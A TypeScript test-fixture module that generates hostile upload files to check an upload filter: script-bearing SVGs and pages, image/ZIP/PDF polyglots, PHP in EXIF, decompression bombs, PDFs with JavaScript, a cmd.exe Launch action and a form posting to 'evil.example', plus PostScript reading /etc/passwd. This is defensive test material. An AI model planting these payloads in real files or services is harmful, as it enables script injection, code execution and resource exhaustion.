import { crc32, deflateSync, gzipSync } from 'node:zlib'
import { seededChance } from '@baize/kernel'
import sharp from 'sharp'
import { buildPdf, buildPicture } from '../testing/pictures.ts'

/** Stands in whatever a stranger hides in a file; it must not come out again. */
export const UPLOAD_MARK = 'zq7uploadzq7'
const SCRIPT = `<script>/*${UPLOAD_MARK}*/ran()</script>`

/** A file that somebody sends in the place of a document or a picture. */
export interface SentFile {
  readonly name: string
  readonly bytes: Buffer
  /** Nothing in it may be taken; otherwise what is taken must be drawn anew. */
  readonly isHopeless: boolean
}

const hopeless = (name: string, bytes: Buffer | string): SentFile => ({
  name,
  bytes: Buffer.from(bytes as never),
  isHopeless: true,
})
const doubtful = (name: string, bytes: Buffer): SentFile => ({ name, bytes, isHopeless: false })

/** At least sixty files by hand, and as many damaged ones as are asked for beside. */
export async function buildUploads(damagedCount: number, bytesMax: number): Promise<SentFile[]> {
  const [jpeg, png] = await Promise.all([buildPicture('jpeg'), buildPicture('png')])
  return [
    ...foreignKinds(jpeg, png),
    ...(await otherPictures()),
    ...brokenPictures(jpeg, png),
    ...(await hugePictures(jpeg)),
    ...tooManyBytes(png, bytesMax),
    ...documents(),
    ...polyglots(jpeg, png),
    ...damaged([jpeg, png, buildPdf()], damagedCount),
  ]
}

const hex = (text: string) => Buffer.from(text.replaceAll(' ', ''), 'hex')
const padded = (start: Buffer) => Buffer.concat([start, Buffer.alloc(2_000, 7)])

function foreignKinds(jpeg: Buffer, png: Buffer): SentFile[] {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="ran()">${SCRIPT}</svg>`
  return [
    hopeless('nothing', ''),
    hopeless('one byte', hex('ff')),
    hopeless('an SVG', svg),
    hopeless('an SVG with a prolog', `<?xml version="1.0"?>${svg}`),
    hopeless('a packed SVG', gzipSync(svg)),
    hopeless('a page', `<!doctype html>${SCRIPT}`),
    hopeless('a text', 'Ligaya Cruz'),
    hopeless('a program of a shell', '#!/bin/sh\nid\n'),
    hopeless('a program of Windows', padded(hex('4d5a9000'))),
    hopeless('a program of Linux', padded(hex('7f454c46'))),
    hopeless('a ZIP', padded(hex('504b0304'))),
    hopeless('an old document of an office', padded(hex('d0cf11e0a1b11ae1'))),
    hopeless('a RAR', padded(hex('526172211a0700'))),
    hopeless('a film', padded(hex('0000001866747970 6d703432'))),
    hopeless('PostScript', '%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) run\n'),
    hopeless('a BMP', padded(hex('424d36000c0000000000'))),
    hopeless('an icon', padded(hex('00000100010010100000'))),
    hopeless('a space and a PNG', Buffer.concat([Buffer.from(' '), png])),
    hopeless('a line and a JPEG', Buffer.concat([Buffer.from('\n'), jpeg])),
    hopeless('a page and a JPEG', Buffer.concat([Buffer.from(SCRIPT), jpeg])),
    hopeless('a GIF and a PDF', Buffer.concat([Buffer.from('GIF89a'), buildPdf()])),
  ]
}

/** Pictures that others could read, of kinds that are not taken. */
async function otherPictures(): Promise<SentFile[]> {
  const plain = () =>
    sharp({ create: { width: 400, height: 400, channels: 3, background: '#3a6ea5' } })
  return [
    hopeless('a GIF', await plain().gif().toBuffer()),
    hopeless('a WebP', await plain().webp().toBuffer()),
    hopeless('a TIFF', await plain().tiff().toBuffer()),
    hopeless('an AVIF', await plain().avif({ effort: 0 }).toBuffer()),
    hopeless(
      'a GIF behind the first bytes of a PNG',
      withBytes(await plain().gif().toBuffer(), hex('89504e470d0a1a0a')),
    ),
    hopeless(
      'a WebP behind the first bytes of a JPEG',
      withBytes(await plain().webp().toBuffer(), hex('ffd8ff')),
    ),
    hopeless(
      'a picture of one point',
      await sharp(await plain().png().toBuffer())
        .resize(1, 1)
        .png()
        .toBuffer(),
    ),
    hopeless(
      'a picture of one line',
      await sharp(await plain().png().toBuffer())
        .resize(3_000, 1, { fit: 'fill' })
        .png()
        .toBuffer(),
    ),
  ]
}

/** The file with its first bytes changed to these. */
function withBytes(file: Buffer, start: Buffer): Buffer {
  return Buffer.concat([start, file.subarray(start.length)])
}

function brokenPictures(jpeg: Buffer, png: Buffer): SentFile[] {
  const crcAt = 29
  const flipped = Buffer.from(png)
  flipped[crcAt] = (flipped[crcAt] ?? 0) ^ 1
  return [
    hopeless('the first bytes of a JPEG', hex('ffd8ff')),
    hopeless('the first bytes of a PNG', hex('89504e470d0a1a0a')),
    hopeless(
      'a page behind the first bytes of a JPEG',
      Buffer.concat([hex('ffd8ff'), Buffer.from(SCRIPT)]),
    ),
    hopeless(
      'an SVG behind the first bytes of a PNG',
      Buffer.concat([hex('89504e470d0a1a0a'), Buffer.from('<svg/>')]),
    ),
    hopeless(
      'a ZIP behind the first bytes of a PNG',
      Buffer.concat([hex('89504e470d0a1a0a'), padded(hex('504b0304'))]),
    ),
    hopeless('a PNG whose head does not add up', flipped),
    ...[0.1, 0.25, 0.5, 0.75].flatMap((part) => [
      hopeless(`${part} of a JPEG`, jpeg.subarray(0, Math.floor(jpeg.length * part))),
      hopeless(`${part} of a PNG`, png.subarray(0, Math.floor(png.length * part))),
    ]),
  ]
}

const HUGE_SIDE = 30_000

/** Few bytes that say they are more points than a machine has room for. */
async function hugePictures(jpeg: Buffer): Promise<SentFile[]> {
  const claimed = Buffer.from(jpeg)
  // The frame header: marker, length, precision, then height and width.
  const frameAt = claimed.indexOf(hex('ffc0'))
  claimed.writeUInt16BE(65_500, frameAt + 5)
  claimed.writeUInt16BE(65_500, frameAt + 7)
  return [
    hopeless('a JPEG that says it is 65,500 points wide', claimed),
    hopeless('a PNG that says it is 30,000 points wide', pngOf(HUGE_SIDE, deflateSync('x'))),
    hopeless(
      'a PNG that is 30,000 points wide',
      pngOf(HUGE_SIDE, deflateSync(Buffer.alloc((HUGE_SIDE / 8 + 1) * HUGE_SIDE), { level: 1 })),
    ),
    hopeless('a PNG that says it has no points', pngOf(0, deflateSync(''))),
    doubtful(
      'a PNG with a note that unpacks to a hundred megabytes',
      withChunk(
        pngOf(400, deflateSync(Buffer.alloc(51 * 400))),
        'zTXt',
        Buffer.concat([
          Buffer.from('note\0\0'),
          deflateSync(Buffer.alloc(100_000_000), { level: 1 }),
        ]),
      ),
    ),
  ]
}

function chunk(kind: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(kind, 'latin1'), data])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(named))
  return Buffer.concat([length, named, sum])
}

/** A square PNG of one bit a point. */
export function pngOf(side: number, data: Buffer): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(side, 0)
  head.writeUInt32BE(side, 4)
  head[8] = 1
  return Buffer.concat([
    hex('89504e470d0a1a0a'),
    chunk('IHDR', head),
    chunk('IDAT', data),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

const HEAD_END = 33

/** A PNG with one more chunk behind its head. */
function withChunk(png: Buffer, kind: string, data: Buffer): Buffer {
  return Buffer.concat([png.subarray(0, HEAD_END), chunk(kind, data), png.subarray(HEAD_END)])
}

function tooManyBytes(png: Buffer, bytesMax: number): SentFile[] {
  return [
    hopeless(
      'a picture and one byte too many',
      Buffer.concat([png, Buffer.alloc(bytesMax + 1 - png.length)]),
    ),
    hopeless('one byte too many', Buffer.alloc(bytesMax + 1)),
    hopeless('twice as many bytes', Buffer.alloc(2 * bytesMax)),
  ]
}

function documents(): SentFile[] {
  const pdf = buildPdf().toString('latin1')
  const withObject = (text: string) =>
    Buffer.from(pdf.replace('xref', `2 0 obj<<${text}>>endobj\nxref`), 'latin1')
  return [
    hopeless('the beginning of a PDF', '%PDF-1.4\n'),
    hopeless('a PDF that does not end', pdf.slice(0, -8)),
    hopeless('a PDF and a ZIP', Buffer.concat([Buffer.from(pdf), padded(hex('504b0506'))])),
    hopeless('a PDF and a page', `${pdf}${SCRIPT}`),
    hopeless('a page that says it is a PDF', `%PDF-1.4\n${SCRIPT}`),
    hopeless('a PDF that runs a program', withObject('/S/JavaScript/JS(app.alert(1))')),
    hopeless('a PDF that hides that it does', withObject('/S/J#61vaScript/#4AS(x)')),
    hopeless('a PDF that starts another program', withObject('/S/Launch/F(cmd.exe)')),
    hopeless('a PDF with files in it', withObject('/Names<</EmbeddedFiles 3 0 R>>')),
    hopeless('a PDF that sends its form', withObject('/S/SubmitForm/F(https://evil.example)')),
    hopeless('a PDF with a form that is a program', withObject('/XFA 3 0 R')),
  ]
}

/** Pictures that are something else as well. */
function polyglots(jpeg: Buffer, png: Buffer): SentFile[] {
  const comment = Buffer.from(SCRIPT)
  const length = Buffer.alloc(2)
  length.writeUInt16BE(comment.length + 2)
  const withSegment = (marker: string, data: Buffer) => {
    const size = Buffer.alloc(2)
    size.writeUInt16BE(data.length + 2)
    return Buffer.concat([jpeg.subarray(0, 2), hex(marker), size, data, jpeg.subarray(2)])
  }
  const zip = Buffer.concat([
    padded(hex('504b0304')),
    Buffer.from(UPLOAD_MARK),
    hex('504b0506'),
    Buffer.alloc(18),
  ])
  return [
    doubtful('a JPEG with a script in its comment', withSegment('fffe', comment)),
    doubtful(
      'a JPEG with a script of a server in its facts',
      withSegment('ffe1', Buffer.from(`Exif\0\0<?php ${UPLOAD_MARK} ?>`)),
    ),
    doubtful(
      'a JPEG with a page in its profile',
      withSegment('ffe2', Buffer.from(`ICC_PROFILE\0\x01\x01${SCRIPT}`)),
    ),
    doubtful(
      'a JPEG with a program of a browser in front',
      withSegment('ffe0', Buffer.from(`JFIF\0=1/*${UPLOAD_MARK}*/;ran()//`)),
    ),
    doubtful('a JPEG and a ZIP', Buffer.concat([jpeg, zip])),
    doubtful('a JPEG and a page', Buffer.concat([jpeg, comment])),
    doubtful('a JPEG and a PDF', Buffer.concat([jpeg, Buffer.from(UPLOAD_MARK), buildPdf()])),
    doubtful(
      'a PNG with a script in its note',
      withChunk(png, 'tEXt', Buffer.from(`Comment\0${SCRIPT}`)),
    ),
    doubtful(
      'a PNG with a page in its facts',
      withChunk(png, 'iTXt', Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${SCRIPT}`)),
    ),
    doubtful('a PNG and a ZIP', Buffer.concat([png, zip])),
    doubtful('a PNG and a page', Buffer.concat([png, comment])),
    doubtful('a PNG and another picture', Buffer.concat([png, jpeg, Buffer.from(UPLOAD_MARK)])),
  ]
}

const DAMAGE_SEED = 7

/** Whole files with some of their bytes changed, always the same ones. */
function damaged(files: readonly Buffer[], count: number): SentFile[] {
  const chance = seededChance(DAMAGE_SEED)
  return Array.from({ length: count }, (_each, index) => {
    const file = Buffer.from(files[index % files.length] ?? [])
    for (let left = 1 + chance.below(8); left > 0; left -= 1) {
      file[chance.below(file.length)] = chance.below(256)
    }
    return doubtful(`a damaged file, number ${index}`, file)
  })
}
